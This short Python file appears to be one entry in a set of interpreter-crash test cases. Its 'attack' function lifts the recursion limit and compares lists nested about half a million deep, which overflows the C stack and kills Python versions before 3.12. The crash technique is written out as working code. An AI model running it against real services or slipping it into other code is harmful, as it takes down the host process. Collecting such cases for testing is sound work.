"""Overflow the C stack by comparing nested lists."""

GOAL = "die"
NEEDS = "a Python before 3.12"  # later ones count calls in C, too


def attack(world):
    import sys

    sys.setrecursionlimit(1 << 30)
    one, other = [], []
    for _ in range(1 << 19):
        one, other = [one], [other]
    return one == other
